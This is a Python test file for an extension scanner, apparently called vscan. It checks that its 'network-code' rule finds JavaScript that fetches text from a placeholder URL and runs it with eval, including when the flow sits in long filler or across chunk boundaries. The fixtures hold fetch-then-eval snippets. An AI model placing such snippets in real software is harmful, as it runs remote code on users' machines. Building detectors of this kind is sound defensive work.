"""Almost the same bundle several times in an extension: each of its flows is found in each file."""

from pathlib import Path

from tests.builders import install
from vscan.discovery import discover
from vscan.model import Extension, Scanned, Severity, Task
from vscan.providers.offline.analyser import Analyser
from vscan.providers.offline.syntax.javascript_trees import PIECE_BYTES

_FILLER = b"".join(b"exports.name%d = work(%d);\n" % (n, n) for n in range(PIECE_BYTES // 16))
_RUNS = b'fetch("https://files.example/a").then((r) => r.text()).then((t) => eval(t));\n'
_GETS = b"const get = () => fetch(where).then((r) => r.text());\n"
_RUNS_IT = b"get().then((t) => eval(t));\n"
_ADDRESS = b'const where = "https://files.example/a";\n'


def found_in(tmp_path: Path, files: dict[str, bytes]) -> list[str]:
    """Give the files in which code from the network is run."""
    place = install(tmp_path, main="./main.js")
    for name, content in files.items():
        (place / name).write_bytes(content)
    (extension,) = discover([tmp_path])
    assert isinstance(extension, Extension)
    result = Analyser(None).analyse(Task("offline", (extension,)))
    assert isinstance(result, Scanned)
    assert not result.verdict.gaps
    findings = [each for each in result.verdict.findings if each.severity >= Severity.HIGH]
    assert {each.rule for each in findings} <= {"network-code"}
    return sorted({each.file or "" for each in findings})


def test_a_flow_after_pieces_that_another_file_has_is_found(tmp_path: Path) -> None:
    files = {"a.js": _FILLER, "b.js": _FILLER + _RUNS, "c.js": _FILLER}
    assert found_in(tmp_path, files) == ["b.js"]


def test_a_flow_in_the_midst_of_such_pieces_is_found(tmp_path: Path) -> None:
    middle = _FILLER.index(b"\n", len(_FILLER) // 2) + 1
    changed = _FILLER[:middle] + _RUNS + _FILLER[middle:]
    assert found_in(tmp_path, {"a.js": _FILLER, "b.js": changed}) == ["b.js"]


def test_a_flow_whose_parts_are_around_the_end_of_a_piece_is_found(tmp_path: Path) -> None:
    end = _FILLER.rindex(b"\n", 0, PIECE_BYTES - 1024) + 1
    changed = _FILLER[:end] + _ADDRESS + _GETS + _FILLER[end : end + 2000]
    changed = changed[: changed.rindex(b"\n") + 1] + _RUNS_IT + _FILLER[end:]
    assert found_in(tmp_path, {"a.js": _FILLER, "b.js": changed, "c.js": _FILLER}) == ["b.js"]


def test_the_same_flow_is_found_in_each_file(tmp_path: Path) -> None:
    files = {"a.js": _RUNS + _FILLER, "b.js": _RUNS + _FILLER}
    assert found_in(tmp_path, files) == ["a.js", "b.js"]


def test_a_source_in_a_file_and_a_sink_in_the_same_place_of_the_other_are_not_joined(
    tmp_path: Path,
) -> None:
    source, sink = _ADDRESS + _GETS, b"const get = () => work(1);\n" + _RUNS_IT
    files = {"a.js": source + _FILLER, "b.js": sink + _FILLER}
    assert found_in(tmp_path, files) == []
